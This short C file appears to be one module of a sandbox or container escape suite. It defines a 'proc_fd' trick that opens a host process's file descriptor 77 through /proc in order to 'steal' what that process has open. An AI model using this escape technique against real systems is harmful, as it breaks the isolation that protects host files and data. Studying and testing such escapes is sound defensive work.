/* Opens what a process of the host has open. */
#include "../escape.h"

TRICK(proc_fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/fd/77", told("ESC_PID"));
    return steal_path(path);
}
